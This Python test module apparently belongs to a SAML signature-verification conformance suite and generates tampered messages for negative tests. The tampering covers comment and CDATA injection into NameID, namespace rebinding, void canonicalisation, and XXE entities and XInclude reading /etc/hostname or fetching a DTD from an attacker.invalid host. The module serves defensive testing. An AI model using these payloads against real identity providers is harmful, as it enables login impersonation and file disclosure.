"""Characters, comments, entities and namespaces: one message that two readers read differently.

Sources: Duo Labs, comments in SAML text (2018; CVE-2017-11427 and its kin); GitHub Security Lab and PortSwigger on
ruby-saml (CVE-2025-25291, 25292, 66567) and "The Fragile Lock" (2025): entities and document types, namespace
confusion, void canonicalisation by a relative namespace; CVE-2025-29775 (a comment in DigestValue); Exclusive XML
Canonicalization 1.0 on what is not signed (declarations that nobody uses visibly, comments, the way characters are
written).

What changes nothing in what was signed may be taken, and then names the signer and nobody else.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from lxml import etree

from conformance.hand_signatures import ENVELOPED, EXCLUSIVE, Form, certificate_info, sign
from conformance.negative_kit import Kit, put
from conformance.spoiled_assertions import find, handmade
from guard.credentials import vihf
from tests.attack.attack import Attack, Spoil, in_header, replaced
from tests.attack.wrapping_corpus import nested

_ID = b"899900000011</saml2:NameID>"
_VICTIM = "899900000022"
_COMMENT = "<!-- -->"
_LAST = b'<Last xmlns="1"/>'


def _declared(declaration: str) -> Spoil:
    """A good message behind something before its envelope."""
    return lambda sent, kit: declaration.encode() + put(sent, vihf.security_header(kit.good()))


def _typed(subset: str, before: str, after_: str, *, count: int = 1) -> Spoil:
    """The same with a document type, and a part of the assertion replaced."""
    inner = replaced(before, after_, count=count)
    return lambda sent, kit: f"<!DOCTYPE x [{subset}]>".encode() + inner(sent, kit)


def _encoded(encoding: str, *, declared: bool = True) -> Spoil:
    def spoil(sent: bytes, kit: Kit) -> bytes:
        text = put(sent, vihf.security_header(kit.good())).decode()
        declaration = f'<?xml version="1.0" encoding="{encoding}"?>' if declared else ""
        return (declaration + text).encode(encoding)

    return spoil


def _comments() -> Iterator[tuple[str, str, Spoil]]:
    """Taken, for the whole text: comments are no part of what is signed, and none of what is read."""
    value = f"<ds:{{}}>{_COMMENT}"
    yield (
        "comment_before_name",
        "a comment before the first character of NameID",
        replaced("NameID>8999", f"NameID>{_COMMENT}8999"),
    )
    yield (
        "comment_after_name",
        "a comment with the victim's identifier after the last one",
        replaced(_ID, f"899900000011<!--{_VICTIM}--></saml2:NameID>".encode()),
    )
    yield "comment_in_issuer", "a comment in Issuer", replaced("LIBRE", f"LI{_COMMENT}BRE")
    yield "comment_in_value", "a comment in an attribute's value", replaced("10B0127189", f"10B{_COMMENT}0127189")
    for name in ("DigestValue", "SignatureValue", "X509Certificate"):
        yield f"comment_in_{name}", f"CVE-2025-29775: a comment in {name}", replaced(f"<ds:{name}>", value.format(name))
    yield (
        "comment_in_signed_info",
        "a comment between the parts of SignedInfo",
        replaced("<ds:SignedInfo>", f"<ds:SignedInfo>{_COMMENT}"),
    )
    yield "comment_with_assertion", "a forged assertion inside a comment", _forged_comment


def _forged_comment(sent: bytes, kit: Kit) -> bytes:
    forged = etree.tostring(kit.build(kit.says(kit.other), kit.other))
    return put(sent, vihf.security_header(b"<!--" + forged + b"-->" + kit.good()))


def _writing() -> Iterator[tuple[str, str, Spoil]]:
    """Taken: other ways to write the same characters, and declarations that no signature covers."""
    yield "cdata_name", "NameID written as CDATA", replaced(_ID, b"<![CDATA[899900000011]]></saml2:NameID>")
    yield "cdata_part", "a part of NameID as CDATA", replaced(_ID, b"8999<![CDATA[0000]]>0011</saml2:NameID>")
    yield "numbered", "characters of NameID by number", replaced(_ID, b"&#56;99900&#x30;00011</saml2:NameID>")
    yield "numbered_id", "the ID by number, the reference plain", lambda sent, kit: _numbered_id(sent, kit)
    yield "quotes", "single quotes and other spaces in tags", replaced(' Version="2.0"', "\n\tVersion = '2.0'")
    yield (
        "unused_prefix",
        "a declaration that nobody uses",
        replaced("<saml2:Subject>", '<saml2:Subject xmlns:n="urn:x">'),
    )
    yield (
        "prefix_in_content",
        "xs, used in xsi:type only, bound to another namespace",
        replaced('xmlns:xs="http://www.w3.org/2001/XMLSchema"', 'xmlns:xs="urn:x"'),
    )
    yield "default_around", "a default namespace on the header around the assertion", _around('xmlns="urn:x"')
    yield (
        "base_and_language",
        "xml:base and xml:lang on the header around it",
        _around('xml:base="http://attacker.invalid/" xml:lang="en" xml:space="preserve"'),
    )
    yield (
        "prefixes_around",
        "the assertion's own prefixes bound otherwise around it",
        _around('xmlns:saml2="urn:x" xmlns:ds="urn:x" xmlns:xsi="urn:x"'),
    )


def _around(attributes: str) -> Spoil:
    def spoil(sent: bytes, kit: Kit) -> bytes:
        good = put(sent, vihf.security_header(kit.good()))
        return good.replace(b"<wsse:Security ", f"<wsse:Security {attributes} ".encode(), 1)

    return spoil


def _numbered_id(sent: bytes, kit: Kit) -> bytes:
    good = put(sent, vihf.security_header(kit.good()))
    assert b' ID="_' in good
    return good.replace(b' ID="_', b' ID="&#95;', 1)


def _changed() -> Iterator[tuple[str, str, Spoil, str]]:
    """Refused: what is signed is no longer what stands there."""
    yield "space_after_name", "a line end after NameID", replaced(_ID, b"899900000011\n</saml2:NameID>"), "f"
    yield "number_of_a_space", "a carriage return by number", replaced(_ID, b"899900000011&#13;</saml2:NameID>"), "f"
    yield (
        "invisible_character",
        "a zero-width space in NameID",
        replaced(_ID, "8999\u200b00000011</saml2:NameID>".encode()),
        "f",
    )
    yield "wide_digits", "digits of another script", replaced(_ID, "８99900000011</saml2:NameID>".encode()), "f"
    yield "decomposed", "an accent as a character of its own", replaced("&#233;", "e&#769;"), "f"
    yield (
        "prefix_rebound",
        "the prefix of NameID bound to another namespace",
        replaced("<saml2:NameID>", '<saml2:NameID xmlns:saml2="urn:x">'),
        "d",
    )
    yield "prefix_renamed", "another prefix for the same namespace", _prefix_renamed, "f"
    yield (
        "signature_prefix",
        "another prefix for the signature",
        replaced(b"<ds:SignedInfo>", b'<d:SignedInfo xmlns:d="http://www.w3.org/2000/09/xmldsig#">', _closed),
        "f",
    )
    yield (
        "default_taken_away",
        "xmlns='' on an element of the assertion",
        replaced("<saml2:Subject>", '<saml2:Subject xmlns="">'),
        "same",
    )
    yield (
        "default_given",
        "a default namespace for an element in a value",
        replaced('xmlns="urn:hl7-org:v3"', 'xmlns="urn:x"'),
        "f",
    )
    yield (
        "default_dropped",
        "the default namespace of a coded value undeclared",
        replaced('xmlns="urn:hl7-org:v3"', 'xmlns=""'),
        "f",
    )
    yield "element_in_name", "an element cuts NameID", replaced(_ID, b"8999<x/>00000011</saml2:NameID>"), "d"
    yield (
        "include_in_name",
        "XInclude in NameID",
        replaced(
            _ID, b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/></saml2:NameID>'
        ),
        "d",
    )
    yield (
        "relative_namespace",
        "void canonicalisation: a relative namespace, which canonical XML has no form for",
        replaced("<saml2:Subject>", '<saml2:Subject xmlns:void="1">'),
        "f",
    )
    yield (
        "relative_namespace_used",
        "the same, used by an attribute",
        replaced("<saml2:AttributeValue ", '<saml2:AttributeValue xmlns:void="1" void:x="" '),
        "f",
    )
    yield (
        "relative_in_signed_info",
        "the same in SignedInfo",
        replaced("<ds:SignedInfo>", '<ds:SignedInfo xmlns:void="1">'),
        "f",
    )


def _closed(kit: Kit) -> bytes:
    """A good assertion whose SignedInfo is closed with the prefix d."""
    return kit.good().replace(b"</ds:SignedInfo>", b"</d:SignedInfo>")


def _prefix_renamed(sent: bytes, kit: Kit) -> bytes:
    renamed = kit.good().replace(b"<saml2:", b"<s:").replace(b"</saml2:", b"</s:").replace(b"xmlns:saml2=", b"xmlns:s=")
    return put(sent, vihf.security_header(renamed))


def _documents() -> Iterator[tuple[str, str, Spoil, str]]:
    """Refused by the parser of the wire (step a); the last is what the verifier alone does with them."""
    name = _ID.decode()
    yield (
        "entity",
        "NameID from an entity of the message",
        _typed(f'<!ENTITY v "{_VICTIM}">', name, "&v;</saml2:NameID>"),
        "d",
    )
    yield (
        "entity_part",
        "NameID cut by an empty entity",
        _typed('<!ENTITY v "">', name, "8999&v;00000011</saml2:NameID>"),
        "d",
    )
    yield (
        "entity_file",
        "NameID from a file",
        _typed('<!ENTITY v SYSTEM "file:///etc/hostname">', name, "&v;</saml2:NameID>"),
        "d",
    )
    yield (
        "entity_parameter",
        "a document type fetched from elsewhere",
        _declared('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/x"> %p;]>'),
        "",
    )
    yield (
        "default_attribute",
        "an attribute that the document type gives by default",
        _typed(f'<!ATTLIST saml2:NameID Format CDATA "{vihf.X509_SUBJECT}">', name, name),
        "",
    )
    yield (
        "typed_identifier",
        "an identifier that the document type makes one",
        _typed("<!ATTLIST saml2:NameID Format ID #IMPLIED>", name, name),
        "",
    )
    yield (
        "instruction_in_name",
        "a processing instruction cuts NameID",
        replaced(_ID, b"8999<?x y?>00000011</saml2:NameID>"),
        "d",
    )
    yield (
        "instruction_in_digest",
        "a processing instruction cuts DigestValue",
        replaced("<ds:DigestValue>", "<ds:DigestValue><?x y?>"),
        "d",
    )
    yield (
        "stylesheet",
        "a stylesheet for the message",
        _declared('<?xml-stylesheet href="http://attacker.invalid/x"?>'),
        "",
    )
    yield "utf_16", "the message in UTF-16", _encoded("utf-16"), ""
    yield "utf_7", "the message in UTF-7", _encoded("utf-7"), ""
    yield "latin_1", "the message in ISO-8859-1", _encoded("iso-8859-1"), ""
    yield "utf_16_undeclared", "the same without saying so", _encoded("utf-16", declared=False), ""
    yield "overlong", "a character in more bytes than it needs", replaced(_ID, b"\xc0\xb8" + _ID[1:]), "not well-formed"
    yield "null", "a null character in NameID", replaced(_ID, b"8999\x0000000011</saml2:NameID>"), "not well-formed"
    yield (
        "attribute_twice",
        "an attribute twice",
        replaced(' Version="2.0"', ' Version="2.0" Version="2.0"'),
        "not well-formed",
    )
    yield (
        "attribute_twice_by_prefix",
        "an attribute twice by two prefixes",
        replaced("<saml2:Subject>", '<saml2:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:n="" b:n="">'),
        "not well-formed",
    )
    yield (
        "unbound_prefix",
        "a prefix that is bound to nothing",
        replaced("<saml2:Subject>", '<saml2:Subject n:x="">'),
        "not well-formed",
    )
    yield (
        "unbound_prefix_excused",
        "the same, and a relative namespace after it, which makes lxml forget the error",
        _excused("<saml2:Subject>", '<saml2:Subject n:x="">'),
        "d",
    )
    yield (
        "attribute_twice_excused",
        "an attribute twice by two prefixes, forgotten in the same way",
        _excused("<saml2:Subject>", '<saml2:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:n="" b:n="">'),
        "d",
    )
    yield (
        "header_block_excused",
        "a header block of an unbound prefix, forgotten in the same way",
        lambda sent, kit: put(sent, vihf.security_header(kit.good() + b'<n:Token/><Last xmlns="1"/>')),
        "c",
    )
    yield (
        "prefix_undeclared",
        "a prefix undeclared, which XML 1.0 cannot",
        replaced("<saml2:Subject>", '<saml2:Subject xmlns:xs="">'),
        "not well-formed",
    )


def _excused(before: str, after: str) -> Spoil:
    spoil = replaced(before, after)
    return lambda sent, kit: spoil(sent, kit).replace(
        b"</saml2:AttributeStatement>", _LAST + b"</saml2:AttributeStatement>"
    )


# -- lists of inclusive prefixes ---------------------------------------------------------------------------------------


def _prefixes(listed: str, *, namespace: str = EXCLUSIVE, on: int = 1) -> Callable[[Kit], bytes]:
    """The list is part of the form; the digest is the one it gives."""

    def make(kit: Kit) -> bytes:
        root = kit.build()
        pair = kit.card.signature

        def shape(info: etree._Element) -> None:
            etree.SubElement(info[2][0][on], f"{{{namespace}}}InclusiveNamespaces", PrefixList=listed)

        alone = etree.fromstring(etree.tostring(root))
        content = etree.tostring(alone, method="c14n", exclusive=True, inclusive_ns_prefixes=listed.split())
        sign(root, pair.key, certificate_info(pair.certificate), Form(shape=shape, content=content))
        return etree.tostring(root)

    return make


def _prefix_lists() -> Iterator[tuple[str, str, Spoil, str]]:
    yield "prefixes_xs", "a list that names a prefix of the assertion", in_header(_prefixes("xs xsi")), ""
    yield (
        "prefixes_rebound",
        "the same, and that prefix bound to another namespace after signing",
        replaced('xmlns:xs="http://www.w3.org/2001/XMLSchema"', 'xmlns:xs="urn:x"', _prefixes("xs")),
        "f",
    )
    yield "prefixes_unknown", "a list of prefixes that nobody declares", in_header(_prefixes("no such")), ""
    yield (
        "prefixes_of_envelope",
        "a list that drags a declaration of the envelope into what is digested",
        in_header(_prefixes("s")),
        "f",
    )
    yield "prefixes_foreign", "the list in a namespace of its own", in_header(_prefixes("xs", namespace="urn:x")), "e"
    yield "prefixes_of_enveloped", "the list on the transform that takes none", in_header(_prefixes("xs", on=0)), "e"


def _commented(kit: Kit) -> bytes:
    """Signed with its comments, one of which cuts NameID."""
    root = kit.build()
    find(root, "Subject", "NameID").text = None
    find(root, "Subject", "NameID").append(etree.Comment("x"))
    find(root, "Subject", "NameID")[0].tail = kit.card.identity.common_name
    content = etree.tostring(root, method="c14n", exclusive=True, with_comments=True)
    form = Form(transforms=(ENVELOPED, f"{EXCLUSIVE}WithComments"), content=content)
    sign(root, kit.card.signature.key, certificate_info(kit.card.signature.certificate), form)
    return etree.tostring(root)


def _digest_of_nothing(kit: Kit) -> bytes:
    """DigestValue of no bytes, and the relative namespace that makes a careless canonicaliser give no bytes."""
    signed = handmade(Form(content=b""))(kit)
    return signed.replace(b"<saml2:Subject>", b'<saml2:Subject xmlns:void="1">', 1)


def _spaced_name(kit: Kit) -> bytes:
    root = kit.build()
    find(root, "Subject", "NameID").text = f"\n {kit.card.identity.common_name} "
    return kit.sign(root)


def attacks() -> Iterator[Attack]:
    """Every one of this file."""
    for rows in (_comments, _writing):
        for name, tries, spoil in rows():
            yield Attack(name=name, tries=tries, spoil=spoil, step="")
    for rows in (_changed, _prefix_lists):
        for name, tries, spoil, step in rows():
            yield Attack(name=name, tries=tries, spoil=spoil, step="" if step == "same" else step)
    for name, tries, spoil, alone in _documents():
        yield Attack(name=name, tries=tries, spoil=spoil, step="a", alone="" if alone == "same" else alone)
    yield Attack(
        name="signed_comments",
        tries="comments made part of the signature, one of them in NameID",
        spoil=in_header(_commented),
        step="f",
    )
    yield Attack(
        name="void_digest",
        tries="void canonicalisation: a digest of no bytes, and a namespace without form",
        spoil=in_header(_digest_of_nothing),
        step="f",
    )
    yield Attack(
        name="assertion_in_value",
        tries="a forged assertion where the schema looks at nothing",
        spoil=in_header(nested),
        step="b",
    )
    yield Attack(
        name="spaced_name",
        tries="a signed NameID with space around it: the name without it, and no other",
        spoil=in_header(_spaced_name),
        step="",
    )
